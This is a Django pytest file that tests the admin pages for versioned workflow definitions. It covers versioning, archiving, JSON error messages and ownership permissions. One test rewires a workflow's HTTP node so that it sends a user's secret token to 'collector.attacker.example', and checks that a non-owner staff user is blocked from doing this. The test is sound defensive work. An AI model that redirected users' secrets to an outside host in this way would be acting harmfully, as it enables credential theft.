from __future__ import annotations

import json

import pytest
from django.contrib.auth.models import Permission

from tests.support.definitions import echo_definition, support_triage
from tests.support.factories import WorkflowFactory
from workflows_app.models import Workflow, WorkflowVersion
from workflows_app.services import workflow_archive, workflow_update

pytestmark = pytest.mark.django_db

ADD_URL = "/admin/workflows_app/workflow/add/"


def change_url(workflow: Workflow) -> str:
    return f"/admin/workflows_app/workflow/{workflow.pk}/change/"


def form_data(owner, definition, *, name="From admin", versions=(), based_on=None) -> dict:
    data = {
        "based_on_version": based_on if based_on is not None else (versions[0].number if versions else ""),
        "owner": owner.pk,
        "name": name,
        "description": "",
        "is_active": "on",
        "definition": json.dumps(definition),
        "versions-TOTAL_FORMS": len(versions),
        "versions-INITIAL_FORMS": len(versions),
        "versions-MIN_NUM_FORMS": 0,
        "versions-MAX_NUM_FORMS": 1000,
    }
    for index, version in enumerate(versions):
        data[f"versions-{index}-id"] = version.pk
        data[f"versions-{index}-workflow"] = version.workflow_id
    return data


def test_change_page_shows_the_definition_as_formatted_json(admin_client):
    workflow = WorkflowFactory(definition=support_triage())
    page = admin_client.get(change_url(workflow)).content.decode()
    assert "  &quot;nodes&quot;: [\n    {\n      &quot;id&quot;: &quot;ticket&quot;" in page


def test_add_creates_version_one(admin_client, admin_user):
    response = admin_client.post(ADD_URL, form_data(admin_user, support_triage()))
    assert response.status_code == 302, response.content.decode()[-3000:]
    workflow = Workflow.objects.get(name="From admin")
    assert workflow.current_version.number == 1
    assert workflow.current_version.definition == support_triage()


def test_invalid_definition_shows_the_api_messages(admin_client, admin_user):
    definition = support_triage()
    definition["nodes"][2]["config"]["expression"] = "nodes.log.output.id == 1"
    response = admin_client.post(ADD_URL, form_data(admin_user, definition))
    assert response.status_code == 200
    page = response.content.decode()
    assert "nodes[2].config.expression (node angry): nodes.log is not upstream of angry" in page
    assert not Workflow.objects.exists()


def test_saving_a_changed_definition_makes_a_new_version(admin_client):
    workflow = WorkflowFactory(definition=echo_definition("one"))
    data = form_data(workflow.owner, echo_definition("two"), name=workflow.name, versions=[workflow.current_version])
    response = admin_client.post(change_url(workflow), data)
    assert response.status_code == 302, response.content.decode()[-3000:]
    workflow.refresh_from_db()
    assert workflow.current_version.number == 2
    assert workflow.versions.get(number=1).definition == echo_definition("one")


def test_renaming_makes_no_version(admin_client):
    workflow = WorkflowFactory()
    data = form_data(workflow.owner, echo_definition(), name="Renamed", versions=[workflow.current_version])
    assert admin_client.post(change_url(workflow), data).status_code == 302
    workflow.refresh_from_db()
    assert (workflow.name, workflow.versions.count()) == ("Renamed", 1)


def test_saving_over_an_api_edit_made_meanwhile_is_refused(admin_client):
    """Opened at v1; the owner saved v2 through the API; the admin's save must not revert it."""
    workflow = WorkflowFactory(definition=echo_definition("one"))
    opened_at = workflow.current_version
    workflow_update(workflow=workflow, user=workflow.owner, definition=echo_definition("two"))

    data = form_data(workflow.owner, echo_definition("one"), name="Renamed", versions=[opened_at], based_on=1)
    response = admin_client.post(change_url(workflow), data)

    assert response.status_code == 200
    assert "changed since you opened it (now version 2, not 1)" in response.content.decode()
    workflow.refresh_from_db()
    assert (workflow.name, workflow.current_version.definition) != ("Renamed", echo_definition("one"))
    assert workflow.current_version.definition == echo_definition("two")


def test_the_owner_is_fixed_once_created(admin_client, admin_user):
    workflow = WorkflowFactory()
    owner = workflow.owner
    data = form_data(admin_user, echo_definition(), name=workflow.name, versions=[workflow.current_version])
    assert admin_client.post(change_url(workflow), data).status_code == 302
    workflow.refresh_from_db()
    assert workflow.owner == owner
    assert "owner" not in admin_client.get(change_url(workflow)).context["adminform"].form.fields


def test_versions_are_read_only(admin_client):
    version = WorkflowFactory().current_version
    url = f"/admin/workflows_app/workflowversion/{version.pk}/change/"
    page = admin_client.get(url)
    assert page.status_code == 200
    assert "<pre>" in page.content.decode()
    admin_client.post(url, {"number": 7})
    version.refresh_from_db()
    assert version.number == 1
    assert admin_client.get("/admin/workflows_app/workflowversion/add/").status_code == 403


def test_archived_workflow_is_view_only(admin_client):
    workflow = WorkflowFactory()
    workflow_archive(workflow=workflow)
    data = form_data(workflow.owner, echo_definition("changed"), name="x", versions=[workflow.current_version])
    assert admin_client.post(change_url(workflow), data).status_code == 403
    assert Workflow.objects.get(pk=workflow.pk).name != "x"


def test_an_archived_workflow_shows_its_definition_indented(admin_client):
    workflow = WorkflowFactory(definition=echo_definition("<b>{{ inputs.text }}</b>"))
    workflow_archive(workflow=workflow)
    page = admin_client.get(change_url(workflow)).content.decode()
    # Indented, whichever key comes first (PostgreSQL's jsonb orders keys its own way).
    assert "<pre>{\n  &quot;" in page and "\n  &quot;nodes&quot;: [\n    {" in page
    assert "&lt;b&gt;{{ inputs.text }}&lt;/b&gt;" in page


def sends_a_secret(url: str = "https://hooks.example.com/in") -> dict:
    definition = echo_definition()
    definition["nodes"].insert(
        1,
        {
            "id": "notify",
            "type": "HTTP_REQUEST",
            "config": {"method": "POST", "url": url, "headers": {"Authorization": "Bearer {{ secrets.TOKEN }}"}},
        },
    )
    target = definition["edges"][0]["target"]
    definition["edges"] = [
        {"source": definition["edges"][0]["source"], "target": "notify"},
        {"source": "notify", "target": target},
    ]
    return definition


@pytest.fixture
def staff_client(client, django_user_model):
    """Staff with every workflow permission, but not a superuser."""
    staff = django_user_model.objects.create_user("helper", "helper@example.com", "helper-password-long-1")
    staff.is_staff = True
    staff.save()
    staff.user_permissions.set(
        Permission.objects.filter(codename__in=["view_workflow", "change_workflow", "add_workflow"])
    )
    client.force_login(staff)
    client.user = staff
    return client


def test_staff_cannot_change_what_another_users_workflow_does(staff_client):
    workflow = WorkflowFactory(definition=sends_a_secret())
    moved = sends_a_secret("https://collector.attacker.example/in")
    data = form_data(workflow.owner, moved, name=workflow.name, versions=[workflow.current_version])

    response = staff_client.post(change_url(workflow), data)

    assert response.status_code == 200
    assert f"Only {workflow.owner.username} or a superuser can write this workflow&#x27;s definition" in (
        response.content.decode()
    )
    workflow.refresh_from_db()
    assert workflow.versions.count() == 1
    assert workflow.current_version.definition == sends_a_secret()


def test_staff_can_still_rename_or_deactivate_another_users_workflow(staff_client):
    workflow = WorkflowFactory(definition=sends_a_secret())
    data = form_data(workflow.owner, sends_a_secret(), name="Renamed", versions=[workflow.current_version])
    data.pop("is_active")

    assert staff_client.post(change_url(workflow), data).status_code == 302
    workflow.refresh_from_db()
    assert (workflow.name, workflow.is_active, workflow.versions.count()) == ("Renamed", False, 1)


def test_staff_cannot_create_a_workflow_for_someone_else(staff_client, admin_user):
    response = staff_client.post(ADD_URL, form_data(admin_user, echo_definition()))

    assert response.status_code == 200
    assert "or a superuser can write this workflow" in response.content.decode()
    assert not Workflow.objects.exists()
    own = staff_client.post(ADD_URL, form_data(staff_client.user, sends_a_secret(), name="Mine"))
    assert own.status_code == 302  # their own secrets are theirs to send


def test_a_superuser_may_change_where_a_users_secrets_go(admin_client):
    workflow = WorkflowFactory(definition=sends_a_secret())
    moved = sends_a_secret("https://new-hooks.example.com/in")
    data = form_data(workflow.owner, moved, name=workflow.name, versions=[workflow.current_version])

    assert admin_client.post(change_url(workflow), data).status_code == 302
    workflow.refresh_from_db()
    assert workflow.current_version.definition == moved


def test_a_workflow_saved_before_a_newer_check_can_still_be_renamed(admin_client):
    workflow = WorkflowFactory()
    # As saved before unknown_input existed:
    WorkflowVersion.objects.filter(pk=workflow.current_version.pk).update(
        definition=echo_definition("{{ inputs.not_declared }}")
    )
    workflow.refresh_from_db()
    data = form_data(
        workflow.owner,
        echo_definition("{{ inputs.not_declared }}"),
        name="Renamed",
        versions=[workflow.current_version],
    )

    assert admin_client.post(change_url(workflow), data).status_code == 302
    workflow.refresh_from_db()
    assert workflow.name == "Renamed"
    changed = form_data(workflow.owner, echo_definition("{{ inputs.other }}"), versions=[workflow.current_version])
    assert "inputs.other is not a field" in admin_client.post(change_url(workflow), changed).content.decode()


def test_a_definition_that_is_not_json_says_where_it_breaks(admin_client, admin_user):
    data = form_data(admin_user, echo_definition())
    data["definition"] = '{\n  "nodes": [],\n  "edges": [] "extra": 1\n}'
    response = admin_client.post(ADD_URL, data)
    assert response.status_code == 200
    assert "line 3, column 15: Expecting &#x27;,&#x27; delimiter" in response.content.decode()
    assert not Workflow.objects.filter(name="From admin").exists()
